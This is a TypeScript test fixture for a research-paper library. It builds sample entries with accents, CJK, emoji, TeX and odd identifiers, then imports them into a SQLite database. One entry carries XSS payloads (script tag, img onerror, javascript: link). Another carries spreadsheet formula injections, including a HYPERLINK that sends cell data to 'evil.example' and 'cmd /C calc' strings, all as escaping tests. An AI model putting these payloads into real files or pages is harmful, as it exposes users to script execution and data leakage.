import type { Database } from 'better-sqlite3';
import type { ParsedDigest, ParsedEntry } from '../../src/shared/parsed';
import { commitImport, planImport } from '../../src/main/core/library/import';
import { writeStatus } from './status';
import { indexAll } from '../../src/main/core/search/fts';

/**
 * Papers with everything that is hard to carry through a file format: accents, CJK and emoji,
 * TeX and Markdown specials, HTML and formula payloads, names with particles or of one word, an
 * old-style arXiv id, a DOI full of punctuation, two papers that want the same citation key, and
 * papers that know only a title. (What a digest could really hold, as plain data.)
 */
export const RICH_ENTRIES: ParsedEntry[] = [
  {
    line: 1, title: 'Attention Is All You Need', authors: ['Ashish Vaswani', 'Noam Shazeer', 'Niki Parmar', 'Jakob Uszkoreit'],
    published: '2017-06-12', arxivId: '1706.03762', arxivVersion: 7, categories: ['cs.CL', 'cs.LG'],
    abstract: 'The dominant sequence transduction models are based on complex recurrent or convolutional neural networks. We propose the Transformer.',
    links: ['https://github.com/tensorflow/tensor2tensor'],
  },
  { line: 2, title: 'Attention mechanisms, revisited', authors: ['Ashish Vaswani'], published: '2017-03-01', abstract: 'Same first author, year and first word as the paper above.' },
  {
    line: 3, title: 'Brane New World: Ünïcödé in hep-th', authors: ['Jörg van der Berg', 'Søren Ødegård', 'Łukasz Żółć', 'José Ángel de la Peña'],
    published: '1999-01-04', arxivId: 'hep-th/9901001', arxivVersion: 2, categories: ['hep-th', 'gr-qc'], abstract: 'Ø — an em dash, “curly quotes”, ‘single’, naïve café, 10–20 pages.',
  },
  {
    line: 4,
    title: '<script>alert("t")</script> 50% of $x^2$ & {braces} #1 a_b ~ back\\slash -- en --- em \'\'two\'\' `tick` | pipe',
    authors: ['Ann O\'Neil', 'Jean-Luc Picard', 'OpenAI Team and Friends', 'greenelab'],
    published: '2020-02-29', doi: '10.1002/(sici)1097-4636(199706)35:4<477::aid-jbm9>3.0.co;2-f',
    abstract: '<img src=x onerror=alert(1)> [click](javascript:alert(1)) *stars* _under_ **bold** `code` \\emph{x} %comment @misc{evil, title={x}} &amp; ?` !`',
    links: ['https://example.org/a_b%20c?q=1&r=2#frag'],
  },
  { line: 5, title: '大型语言模型的推理能力研究', authors: ['张伟', 'Wei Zhang'], published: '2024-05-01', abstract: '本文研究大型语言模型。', categories: ['cs.CL'] },
  { line: 6, title: '🦙 LLaMA-Adapter: Efficient Fine-tuning of Language Models with Zero-init Attention', authors: ['Renrui Zhang', 'Jiaming Han'], published: '2023-03-28', arxivId: '2303.16199', arxivVersion: 1 },
  { line: 7, title: '=HYPERLINK("http://evil.example/?x="&A1,"click me")', authors: ['+cmd|\' /C calc\'!A0'], published: '2021-07-07', abstract: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
  { line: 8, title: '-2+3 is a formula too', authorCount: 6, published: '2025-07-17', upvotes: 12, abstract: 'Only an author count is known, as on a Daily Papers page.' },
  { line: 9, title: 'A paper that knows only its title' },
  { line: 10, title: 'On the DOI-only paper', authors: ['Mary-Jane Watson'], published: '2022-11-30', doi: '10.1145/3292500.3330701' },
];

export function richDigest(entries: ParsedEntry[] = RICH_ENTRIES): ParsedDigest {
  return { format: 'test', name: 'Rich test digest', date: '2026-01-08', entries, problems: [] };
}

/** Imports the rich digest into `db` and gives some papers a reading status; returns their ids in digest order. */
export function addRichPapers(db: Database, now = '2026-11-25T12:00:00.000Z'): number[] {
  const parsed = richDigest();
  const plan = planImport(db, parsed, 'Test', 'rich', `rich-${now}`);
  const { digestId } = commitImport(db, plan, JSON.stringify(parsed), 'rich.json', now);
  const ids = db.prepare('SELECT paper_id FROM paper_digest WHERE digest_id = ? ORDER BY rank').pluck().all(digestId) as number[];
  indexAll(db);
  writeStatus(db, [ids[0]!, ids[2]!], 'read', now);
  writeStatus(db, [ids[3]!], 'reading', now);
  return ids;
}
